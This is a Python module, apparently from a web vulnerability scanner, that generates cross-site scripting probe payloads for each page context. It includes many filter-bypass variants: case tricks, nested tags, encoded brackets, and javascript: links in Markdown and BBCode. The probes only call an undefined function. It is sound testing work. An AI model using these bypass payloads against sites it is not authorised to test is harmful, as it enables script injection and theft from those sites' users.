"""Payloads of `xss`: for each context the smallest text that leaves it and stands where scripts stand.

`value` stands for the baseline's value, `call` for a call of a function that nobody defined: were it run, it would do
nothing but fail. `name` is that function's, `mark` is fresh letters.

Where that text comes back changed, others are written as the usual filters let them through: those that look for single
words, for small letters, for blanks or brackets, that take out once what they find, that change the first sign only, and
applications that undo escapes after they have escaped. What a filter that takes out may let through is asked all at once.
"""

from gatecrash.core.testing.oracles.pages.reflection import (
    ATTRIBUTE,
    COMMENTED,
    HANDLER,
    IN_XML,
    RAW_TEXT,
    SCRIPT,
    SOURCE,
    TAG,
    TEXT,
    URL,
    Place,
)
from gatecrash.core.testing.oracles.scripts.script import (
    BLOCK_COMMENT,
    CODE,
    DOUBLE,
    LINE_COMMENT,
    REGEX,
    SINGLE,
    TEMPLATE,
)

_ELEMENT = "<i onclick={call}>"
# Whole by the rules of XML, and of the namespace whose attributes run.
_ELEMENT_OF_XML = '<i xmlns="http://www.w3.org/1999/xhtml" onclick="{call}"></i>'
# Of two attributes of a name the first counts, and elements with an `onclick` of their own are many.
_EVENT = "onauxclick"
_IN_QUOTES = f"{{{{value}}}}{{quote}} {_EVENT}={{{{call}}}} {{{{mark}}}}={{quote}}"
_ADDRESS = "javascript:{call}"
_LOADED = "data:text/javascript,{call}"
# What leaves each state of a script and goes on as code, so that what follows still parses.
_IN_SCRIPT = {
    CODE: ("{value}-{call}",),
    SINGLE: ("{value}'-{call}-'", "{value}\\'-{call}//"),
    DOUBLE: ('{value}"-{call}-"', '{value}\\"-{call}//'),
    TEMPLATE: ("{value}${{{call}}}",),
    LINE_COMMENT: ("{value}\n{call}//",),
    BLOCK_COMMENT: ("{value}*/{call}/*",),
    REGEX: ("{value}/-{call}-/",),
}
# Past filters: each is without something that they may look for; of elements that texts may have many leave one kind alone.
_OTHERWISE = ("<I/ONCLICK={call}>", "<b onclick={name}&lpar;&rpar;>", "<i onclick={call} {mark}=")
_BY_SCRIPT = ("<ScRiPt>{call}</sCrIpT>", "<a href=javascript:{call}>")
_LEFT = ("<p onclick={call}>", "<a onclick={call}>")
# What one pass of a filter that takes out makes markup of. A shell finds no folder `i` to write into.
_TAKEN_OUT_ONCE = (
    "<<i>i/onclick={call}>",
    "<i oonclick=nclick={call}>",
    "<i oonnclick={call}>",
    "<i oonclicknclick={call}>",
)
_SCRIPT_TAKEN_OUT_ONCE = ("<scr<script>ipt>{call}</scr</script>ipt>", "<scrscriptipt>{call}</scrscriptipt>")
# What is markup once the first sign was changed, or the address's escapes, the page's or wide letters are read again.
_READ_AGAIN = ("<>" + _ELEMENT, "%3Ci/onclick={call}%3E", "&lt;i/onclick={call}&gt;", "\uff1ci/onclick={call}\uff1e")
_QUOTED_AGAIN = {
    '"': ('"" onclick={call} {mark}="', "%22 onclick={call} {mark}=%22", "&quot; onclick={call} {mark}=&quot;"),
    "'": ("'' onclick={call} {mark}='", "%27 onclick={call} {mark}=%27", "&#39; onclick={call} {mark}=&#39;"),
}
# What is a link in Markdown and BBCode, whose renderers escape markup and often forget what an address runs. Brackets within
# end it for some; a reference without its semicolon is a colon for browsers alone (CVE-2016-10531).
_MADE_LINKS = (
    "[{mark}](javascript:{call})",
    "[{mark}](javascript&#58this;{name}&#40;&#41;)",
    "[url=javascript:{call}]{mark}[/url]",
)
# Blanks within fall away, as signs before; a comment to its line's end that looks like a host; and what one pass leaves.
_ADDRESSES = (
    "\x01JaVa\tScRiPt:{call}",
    "javascript://{mark}.example/%0A{call}",
    "javajavascript:script:{call}",
)

Group = tuple[str, ...]
WHOLE, CUT, REFUSED = "whole", "cut", "refused"
_LEAVES = (TEXT, RAW_TEXT, COMMENTED, ATTRIBUTE, URL)


def made_links(place: Place) -> Group:
    """Patterns of what is no markup yet: a text may be written in a language of which the page makes markup."""
    return _behind_value(_MADE_LINKS) if place.kind == TEXT and place.name != IN_XML else ()


def past_filters(place: Place, shown: str) -> tuple[Group, ...]:
    """More patterns, for a place that shows no payload as it was sent; those of one group are sent as one first.

    shown: WHOLE where a payload was shown, as text; CUT where its letters were, so that all is asked at once; REFUSED where
    they were not, and one of several would have the others refused.
    """
    if place.name == IN_XML or place.kind not in _LEAVES:
        return ()
    if place.kind == URL:
        return () if shown == WHOLE else tuple((each,) for each in _ADDRESSES)
    again = _behind_value(_READ_AGAIN, place)
    if shown == WHOLE:
        quoted = _behind_value(_QUOTED_AGAIN.get(place.quote, ()))
        return (again,) if place.kind == TEXT else (quoted,) if place.kind == ATTRIBUTE and quoted else ()
    if shown == CUT:
        # What is left open takes in what stands behind it.
        by_events = _behind_value((*_LEFT, *_TAKEN_OUT_ONCE, *_OTHERWISE), place)
        return (by_events, _behind_value((*_BY_SCRIPT, *_SCRIPT_TAKEN_OUT_ONCE), place), again)
    within = f"{{value}}{place.quote}/ONCLICK={{call}}/{{mark}}={place.quote}"
    alone = tuple(_behind_value((each,), place) for each in (*_OTHERWISE, *_BY_SCRIPT))
    return (*(((within,),) if place.quote else ()), *alone, again)


def _behind_value(patterns: Group, place: Place | None = None) -> Group:
    """The patterns behind the value, and behind what leaves the place."""
    leaving = ""
    if place is not None:
        ends = {RAW_TEXT: _odd_end(place.name), COMMENTED: "--!>", ATTRIBUTE: f"{place.quote}>"}
        leaving = ends.get(place.kind, "")
    return tuple(f"{{value}}{leaving}{each}" for each in patterns)


def _odd_end(name: str) -> str:
    """An element's end as few write it, and browsers read it (WHATWG HTML, section 13.2.5.13)."""
    return f"</{name.upper()}/>"


def payloads_for(place: Place) -> tuple[str, ...]:
    """The patterns worth trying where a marker was seen, the likeliest first; none where nothing runs."""
    if place.kind == TEXT:
        return ("{value}" + (_ELEMENT_OF_XML if place.name == IN_XML else _ELEMENT),)
    if place.kind == RAW_TEXT:
        return (f"{{value}}</{place.name}>{_ELEMENT}",)
    if place.kind == COMMENTED:
        return ("{value}-->" + _ELEMENT,)
    if place.kind == SCRIPT:
        first, *others = _IN_SCRIPT[place.name]
        return (first, f"{{value}}{_odd_end('script')}{_ELEMENT}", *others)
    if place.kind == HANDLER:
        return (*_IN_SCRIPT[place.name][:1], *_attribute(place.quote))
    if place.kind == URL:
        return (_ADDRESS, *_attribute(place.quote))
    if place.name == SOURCE:
        return (_LOADED, *_attribute(place.quote))
    return _attribute(place.quote) if place.kind in (ATTRIBUTE, TAG) else ()


def _attribute(quote: str) -> tuple[str, ...]:
    return (_IN_QUOTES.format(quote=quote),) if quote else (f"{{value}} {_EVENT}={{call}} {{mark}}=",)
